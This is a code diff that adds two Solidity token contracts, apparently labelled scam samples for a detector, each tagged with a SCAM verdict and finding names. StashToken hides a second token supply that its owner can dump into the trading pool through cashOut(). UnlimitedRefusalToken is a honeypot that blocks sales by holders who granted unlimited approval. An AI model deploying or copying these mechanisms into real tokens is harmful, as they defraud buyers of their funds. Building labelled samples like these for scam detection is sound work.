@@ -239,3 +239,40 @@ contract OwnBuyersToken is PairedErc20 {
         _move(from, to, value);
     }
 }
+
+/// Its contract keeps twice what is pooled, and sells it for its owner once others have bought.
+/// @custom:verdict SCAM
+/// @custom:finding insider_sales
+/// @custom:steps pool, lock, crowd, cashOut()
+contract StashToken is PairedErc20 {
+    constructor(string memory n, string memory s, uint256 supply, address holder, address factory, address weth)
+        PairedErc20(n, s, supply, holder, factory, weth)
+    {
+        _mint(address(this), supply);
+    }
+
+    function cashOut() external onlyOwner {
+        (uint256 own, uint256 base,) = ICovertPair(pair).getReserves();
+        bool isFirst = ICovertPair(pair).token0() == address(this);
+        if (!isFirst) (own, base) = (base, own);
+        uint256 sold = balanceOf[address(this)];
+        _move(address(this), pair, sold);
+        uint256 out = (sold * 997 * base) / (own * 1000 + sold * 997);
+        ICovertPair(pair).swap(isFirst ? 0 : out, isFirst ? out : 0, owner, "");
+    }
+}
+
+/// Nobody sells who approved everything, as wallets do; who approves no more than is sold can sell.
+/// @custom:verdict SCAM
+/// @custom:finding sell_simulation, holder_trials
+/// @custom:steps pool, lock, crowd
+contract UnlimitedRefusalToken is PairedErc20 {
+    constructor(string memory n, string memory s, uint256 supply, address holder, address factory, address weth)
+        PairedErc20(n, s, supply, holder, factory, weth)
+    {}
+
+    function _transfer(address from, address to, uint256 value) internal override {
+        require(from == owner || allowance[from][msg.sender] < type(uint256).max, "allowance");
+        _move(from, to, value);
+    }
+}
